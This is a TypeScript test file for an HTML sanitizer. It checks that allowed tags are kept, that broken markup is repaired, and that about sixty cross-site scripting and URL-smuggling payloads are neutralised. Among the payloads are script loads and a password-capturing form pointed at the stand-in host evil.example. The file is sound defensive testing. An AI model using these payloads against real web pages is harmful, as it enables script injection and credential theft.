import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseSafeHtml, plainText, type SafeNode, safeHtml } from './safe-html.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><p><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="//evil.example"><input name="password"><button>Log in</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\tevil.example">x</a>',
  '<a href="/a/../..//evil.example">x</a>',
  '<a href="https://user:word@evil.example/">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)">x</a>',
  '<a href="https://ok.example/" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example/" target="_top">x</a>',
  '<a href="https://ok.example/"onmouseover="alert(1)">x</a>',
  '<p onclick="alert(1)">x</p>',
  '<p style="background:url(//evil.example)">x</p>',
  '<p id="main" class="x" name="body">x</p>',
  '<!-- <p>x</p> --><![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>',
  '<p<script>alert(1)</script>>',
  '</p></div></main><script>alert(1)</script>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<plaintext><b>x',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<p>\u0000<script\u0000>alert(1)</script>',
]

/** Everything that looks like the beginning of a tag in the result must be one of these, exactly. */
const harmless =
  /^(?:[^<>]|<\/?(?:p|h2|h3|ul|ol|li|blockquote|strong|em)>|<(?:hr|br)>|<a href="(?:https?:\/\/|\/(?![/\\])|tel:|sms:)[^"<>]*">|<\/a>)*$/

const linksIn = (nodes: readonly SafeNode[]): string[] =>
  nodes.flatMap((node) =>
    typeof node === 'string'
      ? []
      : [...(node.href === undefined ? [] : [node.href]), ...linksIn(node.children)],
  )

describe('safe HTML', () => {
  it('keeps headings, lists, emphasis and links [CONTENT-09]', () => {
    const html =
      '<h2>One</h2><p>Two <strong>three</strong> <em>four</em><br>five</p><ul><li>six</li></ul><ol><li>seven</li></ol>' +
      '<blockquote><p>eight</p></blockquote><hr><h3>nine</h3><p><a href="https://a.example/?b=1&amp;c=2">ten</a> <a href="/topics/sleep">eleven</a> <a href="tel:988">twelve</a></p>'
    expect(safeHtml(html)).toBe(html)
  })

  it.each(attacks)('turns %j into words or nothing [CONTENT-09]', (attack) => {
    const safe = safeHtml(attack)
    expect(safe).toMatch(harmless)
    expect(linksIn(parseSafeHtml(attack))).toEqual([])
    expect(safeHtml(safe)).toBe(safe)
  })

  it('shows refused markup as the words it is made of', () => {
    expect(safeHtml('<p>a <script>b</script></p>')).toBe('<p>a &lt;script&gt;b&lt;/script&gt;</p>')
    expect(plainText(parseSafeHtml('<p>5 &lt; 6 &amp;amp; &#8212; &nope;</p>'))).toBe(
      '5 < 6 &amp; — &nope;\n',
    )
  })

  it('closes what is left open and drops what closes nothing', () => {
    expect(safeHtml('<p>a<p>b<ul><li>c<li>d')).toBe('<p>a</p><p>b</p><ul><li>c</li><li>d</li></ul>')
    expect(safeHtml('</ul>a</p></a>')).toBe('a')
    expect(safeHtml('<li>a</li>')).toBe('&lt;li&gt;a')
    expect(safeHtml('<a href="/a">b<a href="/c">d</a></a>')).toBe(
      '<a href="/a">b&lt;a href=&quot;/c&quot;&gt;d</a>',
    )
  })

  it('holds against made-up markup, and reading twice changes nothing [CONTENT-09]', () => {
    const piece = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '/',
        '&',
        ';',
        '=',
        ' ',
        '\n',
        '&lt;',
        '&#60;',
        '&#x3c;',
        '&amp;',
        '<!--',
        '-->',
        '<p>',
        '</p>',
      ],
      ...[
        '<li>',
        '<ul>',
        '</ul>',
        '<a href="',
        '<a href="/x">',
        '</a>',
        'javascript:',
        'https://a.example',
        'onload=',
        'script',
      ],
      ...['<script>', '</script>', '<svg>', '<style>', 'x', '<br>', '<h2>', '<strong>'],
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
        const safe = safeHtml(pieces.join(''))
        expect(safe).toMatch(harmless)
        expect(safeHtml(safe)).toBe(safe)
      }),
      { numRuns: 1500, seed: 20261120 },
    )
  })

  it('stays quick and shallow with deep or broken input', () => {
    const deep = '<ul><li>'.repeat(5000)
    expect(safeHtml(deep).match(/^(<ul><li>)+/)?.[0].length).toBeLessThan(100)
    expect(safeHtml('<a href="'.repeat(20_000))).toMatch(/^&lt;a href=&quot;/)
  })
})
